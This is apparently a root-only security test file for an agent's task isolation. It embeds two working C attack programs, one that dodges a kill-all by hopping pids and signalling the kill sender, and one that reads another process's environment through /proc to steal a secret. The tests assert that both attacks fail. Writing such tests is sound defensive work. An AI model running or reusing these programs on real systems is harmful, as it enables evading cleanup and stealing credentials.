/**
 * Attacks by a hostile task author on an open target against "no survivors"
 * (agent/processes.ts killAll, agent/uid-killer.ts), found by a hostile review
 * (2026-12-03, second round). Each test asserts the attack fails; on the code
 * the review found, it worked. Needs root and gcc.
 */
import { expect } from 'chai';
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Harness } from '../helpers/harness.js';
import { requireRoot } from '../helpers/root.js';
import { STORE_KINDS } from '../helpers/stores.js';

const within = <T>(ms: number, p: Promise<T>): Promise<T | 'TIMEOUT'> =>
  Promise.race([p, new Promise<'TIMEOUT'>((r) => setTimeout(() => r('TIMEOUT'), ms).unref())]);

/**
 * The survivor: its main process (the task's) ignores SIGUSR1 (and the SIGHUP
 * of its terminal's end), starts CHAINS
 * background chains and exits, so the task ends. Each chain hops to a new pid
 * every few hundred microseconds (a /proc scan and a kill by pid always come
 * too late) and sends kill(-1, SIGUSR1) in a loop: the chains ignore it, but
 * the agent's kill sender (setpriv, then sh -c 'kill -9 -1', once it runs as
 * the task's uid) dies of it before it sends its SIGKILL. Dies by itself after
 * LIFE seconds, so the test cannot leave it behind.
 */
const SURVIVOR_C = `#define _GNU_SOURCE
#include <signal.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>
static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }
int main(int c, char **v) {
  int life = atoi(v[1]), chains = atoi(v[2]); double t0 = now();
  signal(SIGUSR1, SIG_IGN); signal(SIGHUP, SIG_IGN);
  for (int i = 0; i < chains; i++) if (fork() == 0) { setsid(); goto chain; }
  usleep(100000);
  return 0;
chain:
  for (;;) {
    for (int i = 0; i < 40; i++) kill(-1, SIGUSR1);
    if (now() - t0 > life) _exit(0);
    if (fork() > 0) _exit(0);
  }
}
`;

/**
 * The stealer: its main process (the task's) starts a watcher and exits, so
 * the task ends and the agent sends kill(-1, SIGKILL) as its uid. The watcher
 * tries to open /proc/N/environ of the few newest pids, in a loop: the kill
 * sender (setpriv, then sh -c 'kill -9 -1') runs as the task's uid and is
 * readable once sh is exec'd, and until it kills the watcher its environment
 * is the agent's own. What it reads goes to DROP (a task would use /run/lock,
 * which nothing cleans, or the network).
 */
const STEALER_C = `#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
int main(int c, char **v) {
  int out = open(v[1], O_CREAT | O_WRONLY | O_APPEND, 0644); fchmod(out, 0644);
  signal(SIGHUP, SIG_IGN);
  if (fork() == 0) {
    setsid(); time_t end = time(0) + 10; char path[64], buf[65536];
    while (time(0) < end) {
      int lp = open("/proc/sys/kernel/ns_last_pid", O_RDONLY); int n = read(lp, buf, 32); close(lp); if (n <= 0) continue; buf[n] = 0;
      int last = atoi(buf);
      for (int p = last - 3; p <= last + 3; p++) {
        if (p == getpid()) continue;
        snprintf(path, sizeof path, "/proc/%d/environ", p);
        int fd = open(path, O_RDONLY); if (fd < 0) continue;
        n = read(fd, buf, sizeof buf); close(fd);
        if (n > 0 && memmem(buf, n, "PROD_SECRETS=", 13)) { write(out, buf, n); write(out, "\\n", 1); }
      }
    }
    _exit(0);
  }
  usleep(100000);
  return 0;
}
`;
const ENV_SECRET = 'env-provider-secret-of-another-target';

/** Every pid with `uid` as its real uid, zombies included (a chain that hops leaves a trail of them). */
function pidsOf(uid: number): Set<string> {
  const out = new Set<string>();
  for (const name of readdirSync('/proc')) {
    if (!/^\d+$/.test(name)) continue;
    try {
      if (new RegExp(`\\nUid:\\t${uid}\\t`).test(readFileSync(`/proc/${name}/status`, 'latin1'))) out.add(name);
    } catch {
      // gone
    }
  }
  return out;
}

/** How many new processes of `uid` appeared within `ms`: more than zero means something of it still runs. */
async function newPids(uid: number, ms: number): Promise<number> {
  const before = pidsOf(uid);
  await new Promise((r) => setTimeout(r, ms));
  return [...pidsOf(uid)].filter((p) => !before.has(p)).length;
}

describe('task isolation: a task that outlives its end (sqlite)', function () {
  this.timeout(180_000);
  let h: Harness;
  let base: string;
  let survivor: string;
  let reap: string;
  let stealer: string;
  let drop: string;
  const uids = new Set<number>();

  before(async function () {
    requireRoot(this, 'isolation attacks');
    // The env secret provider's variable, in the agent process's environment as in
    // production (agentEnv() is process.env), for another target than the attacker's.
    process.env.PROD_SECRETS = JSON.stringify({ password: ENV_SECRET });
    const location = (await STORE_KINDS[0]!.location())!;
    h = await Harness.start(location, { killGraceMs: 300 });
    base = mkdtempSync(join(tmpdir(), 'taskgate-review2-'));
    chmodSync(base, 0o711);
    survivor = join(base, 'survivor');
    writeFileSync(`${survivor}.c`, SURVIVOR_C);
    execFileSync('gcc', ['-O2', '-o', survivor, `${survivor}.c`]);
    chmodSync(survivor, 0o755);
    // The test's own cleanup: kill(-1) with euid UID but real and saved uid 64999, which no
    // process of UID may signal (what the kill shell could do instead).
    reap = join(base, 'reap');
    writeFileSync(`${reap}.c`, `#define _GNU_SOURCE
#include <grp.h>
#include <signal.h>
#include <stdlib.h>
#include <unistd.h>
int main(int c, char **v) { uid_t u = atoi(v[1]); if (setgroups(0, 0) || setresgid(64999, 64999, 64999) || setresuid(64999, u, 64999)) return 2; kill(-1, SIGKILL); return 0; }
`);
    execFileSync('gcc', ['-O2', '-o', reap, `${reap}.c`]);
    stealer = join(base, 'stealer');
    writeFileSync(`${stealer}.c`, STEALER_C);
    execFileSync('gcc', ['-O2', '-o', stealer, `${stealer}.c`]);
    chmodSync(stealer, 0o755);
    drop = join(base, 'drop');
    mkdirSync(drop);
    chmodSync(drop, 0o1777);
    await h.startAgent('a1', { workDir: join(base, 'work'), env: { PATH: process.env.PATH ?? '' } });
    await h.createTarget('open', 'a1');
  });

  after(async () => {
    for (const uid of uids) for (let i = 0; i < 3; i++) execFileSync(reap, [String(uid)]);
    await within(10_000, h?.close() ?? Promise.resolve());
    delete process.env.PROD_SECRETS;
    if (base && existsSync(base)) rmSync(base, { recursive: true, force: true });
  });

  it('a task whose processes hop pids and signal the kill sender does not outlive its end', async () => {
    const log: string[] = [];
    let survived = 0;
    for (let attempt = 0; attempt < 6 && survived === 0; attempt++) {
      const a = await h.createTask('open', `echo "uid=$(id -u)"; exec ${survivor} 40 2`);
      const { task, output } = await h.finished(a.id);
      const uid = Number(/uid=(\d+)/.exec(output.toString())?.[1]);
      uids.add(uid);
      await new Promise((r) => setTimeout(r, 500));
      const fresh = await newPids(uid, 300);
      log.push(`attempt ${attempt}: task ended ${task.status} (exit ${task.exitCode}); uid ${uid}: ${fresh} new processes in 300 ms, 0.5 s after its end was reported`);
      if (fresh > 0) {
        survived += 1;
        // What the next task of the agent gets: the survivor's uid again (it was released) or another.
        const b = await h.createTask('open', 'echo "uid=$(id -u)"; sleep 1; echo B-DONE');
        const next = await h.finished(b.id);
        log.push(`next task: ${JSON.stringify(next.output.toString().trim())}, ended ${next.task.status} (exit ${next.task.exitCode}, signal ${next.task.signal ?? ''})`);
      }
    }
    process.stderr.write(`      ${log.join('\n      ')}\n`);
    expect(survived, `processes of a finished task still ran after its end was reported:\n${log.join('\n')}`).to.equal(0);
  });

  it("a task cannot read the agent's environment from the kill sender that runs as its uid", async () => {
    const log: string[] = [];
    let stolen = '';
    for (let attempt = 0; attempt < 10 && !stolen; attempt++) {
      const loot = join(drop, `loot-${attempt}`);
      const a = await h.createTask('open', `echo "uid=$(id -u)"; exec ${stealer} ${loot}`);
      const { task, output } = await h.finished(a.id);
      const uid = Number(/uid=(\d+)/.exec(output.toString())?.[1]);
      uids.add(uid);
      stolen = existsSync(loot) ? readFileSync(loot, 'latin1') : '';
      log.push(`attempt ${attempt}: task ended ${task.status}; uid ${uid}; loot: ${stolen.length} bytes`);
    }
    const secret = /PROD_SECRETS=[^\0]*/.exec(stolen)?.[0] ?? '';
    process.stderr.write(`      ${log.join('\n      ')}\n      ${secret}\n`);
    expect(stolen, `the agent's environment, read by a task from the kill sender:\n${log.join('\n')}\n${secret}`).to.not.contain(ENV_SECRET);
  });
});
